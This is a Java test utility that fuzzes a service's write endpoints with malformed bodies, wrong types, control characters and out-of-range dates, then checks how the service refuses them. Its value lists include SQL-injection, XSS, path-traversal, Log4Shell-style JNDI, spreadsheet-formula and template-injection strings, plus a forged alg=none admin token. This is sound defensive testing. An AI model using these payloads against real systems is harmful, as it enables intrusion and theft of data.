package org.advisoryforum.platform.test;

import static io.restassured.RestAssured.given;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.regex.Pattern;

/**
 * Generated bad input for a service's write operations: every field of a valid sample body replaced by the wrong
 * type, null, nothing, a huge string, NUL and other control characters, dates out of range, invalid UUIDs, padded
 * enum values, null list items and injection strings; whole bodies that are malformed, duplicate a key, or come
 * with the wrong content type; invalid and unknown ids in the path; no token, a forged token and an over-long
 * address. Deterministic for a seed. {@link #run} sends them and reports every 5xx, every 4xx that is not
 * problem+json, every refusal that changed what {@code state} reports, and every 2xx for input that must be
 * refused. It knows no domain: services declare their operations and sample bodies.
 */
public final class BadInput {

    private static final ObjectMapper JSON = new ObjectMapper();
    /** Escapes every non-ASCII character, so that a lone surrogate reaches the service as it was generated. */
    private static final com.fasterxml.jackson.databind.ObjectWriter WRITER =
            JSON.writer().with(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII);

    private static final Pattern UUID_TEXT =
            Pattern.compile("[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}");
    private static final Pattern DATE_TEXT = Pattern.compile("\\d{4}-\\d{2}-\\d{2}.*");
    private static final Pattern ENUM_TEXT = Pattern.compile("[A-Z][A-Z0-9_]+");
    private static final String JSON_TYPE = "application/json; charset=UTF-8";

    private BadInput() {}

    /** A write operation: method, a path with real ids, the token of a caller whose role reaches validation, a valid body or null. */
    public record Operation(String method, String path, String token, String sampleBody) {

        public static Operation of(String method, String path, String token, Object sampleBody) {
            try {
                return new Operation(
                        method,
                        path,
                        token,
                        sampleBody == null
                                ? null
                                : sampleBody instanceof String text ? text : JSON.writeValueAsString(sampleBody));
            } catch (JsonProcessingException e) {
                throw new IllegalArgumentException(e);
            }
        }
    }

    /** One generated request; {@code mustRefuse} when no service may accept it. */
    public record Mutation(
            String description,
            String method,
            String path,
            String token,
            String contentType,
            String body,
            boolean mustRefuse) {

        @Override
        public String toString() {
            return method + " " + (path.length() > 120 ? path.substring(0, 120) + "..." : path) + " [" + description
                    + "]";
        }
    }

    /** What {@link #run} saw. */
    public record Outcome(int sent, Map<Integer, Integer> byStatus, List<String> failures, long millis) {

        public int refusedAsInvalid() {
            return byStatus.getOrDefault(400, 0);
        }

        @Override
        public String toString() {
            return sent + " requests in " + millis + " ms, by status " + byStatus + ", " + failures.size()
                    + " failures";
        }
    }

    private record Value(String name, JsonNode node, boolean mustRefuse) {}

    /** Systematic mutations of every operation, then random combinations of them until there are {@code atLeast}. */
    public static List<Mutation> generate(List<Operation> operations, long seed, int atLeast) {
        Random random = new Random(seed);
        List<Mutation> all = new ArrayList<>();
        Map<Operation, List<Change>> changes = new LinkedHashMap<>();
        for (Operation operation : operations) {
            all.addAll(pathAndCallerMutations(operation, random));
            if (operation.sampleBody() == null) {
                continue;
            }
            JsonNode sample = parse(operation.sampleBody());
            all.addAll(wholeBodyMutations(operation, sample));
            List<Change> fieldChanges = new ArrayList<>();
            for (String pointer : pointers(sample, "")) {
                JsonNode original = sample.at(pointer);
                for (Value value : valuesFor(original)) {
                    fieldChanges.add(new Change(pointer, value));
                }
                fieldChanges.add(new Change(pointer, null));
            }
            changes.put(operation, fieldChanges);
            for (Change change : fieldChanges) {
                JsonNode body = sample.deepCopy();
                boolean refuse = change.apply(body);
                all.add(new Mutation(
                        change.describe(),
                        operation.method(),
                        operation.path(),
                        operation.token(),
                        JSON_TYPE,
                        write(body),
                        refuse));
            }
        }
        List<Operation> withBodies = new ArrayList<>(changes.keySet());
        while (all.size() < atLeast && !withBodies.isEmpty()) {
            Operation operation = withBodies.get(random.nextInt(withBodies.size()));
            List<Change> options = changes.get(operation);
            JsonNode body = parse(operation.sampleBody());
            List<Change> applied = new ArrayList<>();
            List<Boolean> refusing = new ArrayList<>();
            StringBuilder description = new StringBuilder("combined:");
            for (int i = 0, n = 2 + random.nextInt(3); i < n; i++) {
                Change change = options.get(random.nextInt(options.size()));
                if (!body.at(change.pointer).isMissingNode() || change.pointer.lastIndexOf('/') == 0) {
                    refusing.add(change.apply(body));
                    applied.add(change);
                    description.append(' ').append(change.describe());
                }
            }
            // a change counts only when no later one replaced the same field or one that holds it
            boolean refuse = false;
            for (int i = 0; i < applied.size(); i++) {
                String pointer = applied.get(i).pointer;
                boolean replaced = applied.subList(i + 1, applied.size()).stream()
                        .anyMatch(later -> pointer.equals(later.pointer) || pointer.startsWith(later.pointer + "/"));
                refuse |= refusing.get(i) && !replaced;
            }
            all.add(new Mutation(
                    description.toString(),
                    operation.method(),
                    operation.path(),
                    operation.token(),
                    JSON_TYPE,
                    write(body),
                    refuse));
        }
        return all;
    }

    /**
     * Sends each mutation, taking {@code state} (for example the row counts of the tables the service writes)
     * before and after each refusal.
     */
    public static Outcome run(List<Mutation> mutations, Supplier<?> state) {
        long start = System.nanoTime();
        Map<Integer, Integer> byStatus = new java.util.TreeMap<>();
        List<String> failures = new ArrayList<>();
        Object before = state.get();
        for (Mutation mutation : mutations) {
            Response response = send(mutation);
            int status = response.statusCode();
            byStatus.merge(status, 1, Integer::sum);
            String contentType = Objects.requireNonNullElse(response.contentType(), "");
            if (status >= 500) {
                failures.add(status + " for " + mutation + ": " + abbreviate(response.asString()));
            } else if (status >= 400) {
                if (!contentType.startsWith("application/problem+json")) {
                    failures.add(status + " without problem+json (" + contentType + ") for " + mutation);
                } else if (!(response.asString().contains("\"status\":" + status))) {
                    failures.add(status + " with a problem that does not say its status for " + mutation);
                }
            } else if (mutation.mustRefuse()) {
                failures.add(status + " accepted input that must be refused: " + mutation);
            }
            // one snapshot per request: after a refusal it must equal the one before, and it is the next "before"
            Object after = state.get();
            if (status >= 400 && !after.equals(before)) {
                failures.add("refused with " + status + " but changed " + before + " to " + after + " for " + mutation);
            }
            before = after;
        }
        return new Outcome(mutations.size(), byStatus, failures, (System.nanoTime() - start) / 1_000_000);
    }

    private static Response send(Mutation mutation) {
        RequestSpecification request = given().urlEncodingEnabled(false);
        if (mutation.token() != null) {
            request = request.header("Authorization", "Bearer " + mutation.token());
        }
        if (mutation.body() != null) {
            String base = mutation.contentType().split(";")[0].trim();
            // the bytes go as generated, whatever the content type claims
            request = request.config(io.restassured.RestAssured.config()
                            .encoderConfig(io.restassured.config.EncoderConfig.encoderConfig()
                                    .appendDefaultContentCharsetToContentTypeIfUndefined(false)
                                    .encodeContentTypeAs(base, io.restassured.http.ContentType.BINARY)))
                    .contentType(mutation.contentType())
                    .body(mutation.body().getBytes(StandardCharsets.UTF_8));
        }
        return request.when().request(mutation.method(), mutation.path()).andReturn();
    }

    private static List<Mutation> pathAndCallerMutations(Operation operation, Random random) {
        List<Mutation> mutations = new ArrayList<>();
        String body = operation.sampleBody();
        String type = body == null ? null : JSON_TYPE;
        mutations.add(new Mutation("no token", operation.method(), operation.path(), null, type, body, true));
        mutations.add(new Mutation(
                "forged token",
                operation.method(),
                operation.path(),
                "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJlYWxtX2FjY2VzcyI6eyJyb2xlcyI6WyJhZG1pbiJdfX0.",
                type,
                body,
                true));
        mutations.add(new Mutation("garbage token", operation.method(), operation.path(), "x", type, body, true));
        mutations.add(new Mutation(
                "huge query",
                operation.method(),
                operation.path() + "?q=" + "x".repeat(20_000),
                operation.token(),
                type,
                body,
                true));
        var ids = UUID_TEXT.matcher(operation.path());
        while (ids.find()) {
            for (String bad : List.of(
                    "not-a-uuid",
                    "00000000-0000-0000-0000-00000000000g",
                    enc("' OR '1'='1"),
                    "%00",
                    enc("<script>alert(1)</script>"),
                    "..%2F..%2Fetc%2Fpasswd",
                    "x".repeat(3000),
                    new UUID(random.nextLong(), random.nextLong()).toString())) {
                String path = operation.path().substring(0, ids.start())
                        + bad
                        + operation.path().substring(ids.end());
                mutations.add(new Mutation(
                        "path id " + abbreviate(bad), operation.method(), path, operation.token(), type, body, true));
            }
        }
        return mutations;
    }

    private static List<Mutation> wholeBodyMutations(Operation operation, JsonNode sample) {
        List<Mutation> mutations = new ArrayList<>();
        String valid = write(sample);
        String method = operation.method();
        String path = operation.path();
        String token = operation.token();
        mutations.add(new Mutation(
                "truncated JSON", method, path, token, JSON_TYPE, valid.substring(0, valid.length() / 2), true));
        mutations.add(new Mutation("empty body", method, path, token, JSON_TYPE, "", true));
        for (String other : List.of(
                "null",
                "[]",
                "42",
                "\"text\"",
                "true",
                "{",
                "}",
                "{\"a\":}",
                "{'a':1}",
                "[" + valid + "]",
                "{}{}",
                valid + "x",
                "\u0000",
                "{\"\u0000\":1}")) {
            mutations.add(new Mutation(
                    "body " + abbreviate(other),
                    method,
                    path,
                    token,
                    JSON_TYPE,
                    other,
                    !other.equals("{}") && !other.equals("null")));
        }
        mutations.add(new Mutation(
                "deeply nested", method, path, token, JSON_TYPE, "[".repeat(5000) + "]".repeat(5000), true));
        String firstKey =
                sample instanceof ObjectNode o && o.size() > 0 ? o.fieldNames().next() : "n";
        mutations.add(new Mutation(
                "huge number",
                method,
                path,
                token,
                JSON_TYPE,
                "{\"" + firstKey + "\":1" + "0".repeat(5000) + "}",
                true));
        mutations.add(new Mutation(
                "raw control character in a string",
                method,
                path,
                token,
                JSON_TYPE,
                valid.replaceFirst("\":\"", "\":\"\u0001"),
                valid.contains("\":\"")));
        for (String contentType : List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/octet-stream")) {
            mutations.add(new Mutation("content type " + contentType, method, path, token, contentType, valid, true));
        }
        if (sample instanceof ObjectNode object && object.size() > 0) {
            String first = object.fieldNames().next();
            String duplicate =
                    "{" + JSON.valueToTree(Map.of(first, "x")).toString().replaceAll("^\\{|\\}$", "") + ","
                            + valid.substring(1);
            mutations.add(new Mutation("duplicate key " + first, method, path, token, JSON_TYPE, duplicate, true));
            String same = valid.substring(0, valid.length() - 1) + "," + valid.substring(1);
            mutations.add(new Mutation("every key twice", method, path, token, JSON_TYPE, same, true));
            ObjectNode extra = object.deepCopy();
            extra.put("unexpectedField", "x");
            extra.putObject("__proto__").put("admin", true);
            mutations.add(new Mutation("extra fields", method, path, token, JSON_TYPE, write(extra), false));
        }
        return mutations;
    }

    /** Every field (and the first item of every array) of the sample, as JSON pointers. */
    private static List<String> pointers(JsonNode node, String at) {
        List<String> pointers = new ArrayList<>();
        if (node instanceof ObjectNode object) {
            for (Iterator<String> names = object.fieldNames(); names.hasNext(); ) {
                String name = names.next();
                String pointer = at + "/" + name.replace("~", "~0").replace("/", "~1");
                pointers.add(pointer);
                pointers.addAll(pointers(object.get(name), pointer));
            }
        } else if (node instanceof ArrayNode array && !array.isEmpty()) {
            pointers.add(at + "/0");
            pointers.addAll(pointers(array.get(0), at + "/0"));
        }
        return pointers;
    }

    private static List<Value> valuesFor(JsonNode original) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<Value> values = new ArrayList<>();
        String text = original.isTextual() ? original.textValue() : null;
        boolean uuid = text != null && UUID_TEXT.matcher(text).matches();
        boolean date = text != null && DATE_TEXT.matcher(text).matches();
        boolean enumLike = text != null && ENUM_TEXT.matcher(text).matches();
        values.add(new Value("null", f.nullNode(), false));
        values.add(new Value("number", f.numberNode(-1), uuid || date || enumLike));
        values.add(new Value("big number", f.numberNode(2147483648L), uuid || enumLike || date));
        values.add(new Value("fraction", f.numberNode(new java.math.BigDecimal("12.345")), uuid || enumLike || date));
        values.add(new Value("boolean", f.booleanNode(true), uuid || enumLike || date));
        values.add(new Value("empty string", f.textNode(""), uuid || enumLike));
        values.add(new Value("blank string", f.textNode("   "), uuid || enumLike || date));
        values.add(new Value("object", f.objectNode().put("a", 1), text != null || original.isNumber()));
        values.add(new Value("array", f.arrayNode().add("a"), text != null || original.isNumber()));
        values.add(new Value("huge string", f.textNode("x".repeat(20_000)), true));
        values.add(new Value("NUL", f.textNode("before\u0000after"), true));
        values.add(new Value("bell", f.textNode("ring\u0007"), true));
        values.add(new Value("escape sequence", f.textNode("\u001b[31mred"), true));
        values.add(new Value("lone carriage return", f.textNode("one\rtwo"), true));
        values.add(new Value("C1 control", f.textNode("next\u0085line"), true));
        values.add(new Value("lone surrogate", f.textNode("half\ud800"), true));
        for (String injection : List.of(
                "' OR '1'='1' --",
                "Robert'); DROP TABLE outbox_event;--",
                "<script>alert(1)</script>",
                "${jndi:ldap://example.invalid/a}",
                "../../../../etc/passwd",
                "=HYPERLINK(\"http://example.invalid\")",
                "{{7*7}}")) {
            values.add(new Value(
                    "injection " + injection, f.textNode(injection), uuid || date || enumLike || original.isNumber()));
        }
        for (String far : List.of(
                "+999999999-12-31",
                "-1000000000-01-01T00:00:00Z",
                "0001-01-01",
                "10000-01-01",
                "0001-01-01T00:00:00Z",
                "9999-12-31T23:59:59Z",
                "2026-02-30",
                "2026-13-01T00:00:00Z",
                "yesterday")) {
            values.add(new Value("date " + far, f.textNode(far), date || uuid || enumLike));
        }
        if (uuid) {
            values.add(new Value("invalid uuid", f.textNode("not-a-uuid"), true));
            values.add(new Value("uuid with a bad digit", f.textNode(text.substring(0, 35) + "g"), true));
            values.add(new Value(
                    "unknown uuid",
                    f.textNode(UUID.nameUUIDFromBytes(text.getBytes()).toString()),
                    false));
        }
        if (enumLike) {
            values.add(new Value("padded enum", f.textNode(" " + text + " "), true));
            values.add(new Value("lower-case enum", f.textNode(text.toLowerCase(java.util.Locale.ROOT)), true));
            values.add(new Value("unknown enum", f.textNode(text + "_NOT"), true));
            values.add(new Value("enum by number", f.numberNode(0), true));
        }
        if (original.isArray()) {
            ArrayNode withNull = f.arrayNode().addNull();
            values.add(new Value("[null]", withNull, true));
            ArrayNode trailingNull = ((ArrayNode) original.deepCopy()).addNull();
            values.add(new Value("trailing null item", trailingNull, true));
            values.add(new Value("empty list", f.arrayNode(), false));
            ArrayNode many = f.arrayNode();
            for (int i = 0; i < 1200; i++) {
                many.add(original.isEmpty() ? f.textNode("x") : original.get(0).deepCopy());
            }
            values.add(new Value("1200 items", many, false));
        }
        if (original.isNumber()) {
            values.add(new Value("number as text", f.textNode(original.asText()), false));
            values.add(new Value("huge integer", f.numberNode(new java.math.BigInteger("9".repeat(40))), false));
            values.add(new Value("negative", f.numberNode(-99999), false));
        }
        return values;
    }

    /** Replace (or, with no value, remove) one field; answers whether the result must be refused. */
    private record Change(String pointer, Value value) {

        boolean apply(JsonNode body) {
            int slash = pointer.lastIndexOf('/');
            JsonNode parent = body.at(pointer.substring(0, slash));
            String name = pointer.substring(slash + 1).replace("~1", "/").replace("~0", "~");
            if (parent instanceof ObjectNode object) {
                if (value == null) {
                    object.remove(name);
                } else {
                    object.set(name, value.node().deepCopy());
                }
            } else if (parent instanceof ArrayNode array && !array.isEmpty()) {
                if (value == null) {
                    array.remove(0);
                } else {
                    array.set(0, value.node().deepCopy());
                }
            } else {
                return false;
            }
            return value != null && value.mustRefuse();
        }

        String describe() {
            return pointer + (value == null ? " missing" : " = " + value.name());
        }
    }

    private static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException("sample body is not JSON: " + json, e);
        }
    }

    private static String write(JsonNode node) {
        try {
            return WRITER.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String enc(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text) {
        String oneLine = text.replaceAll("\\p{Cntrl}", "?");
        return oneLine.length() > 200 ? oneLine.substring(0, 200) + "..." : oneLine;
    }
}
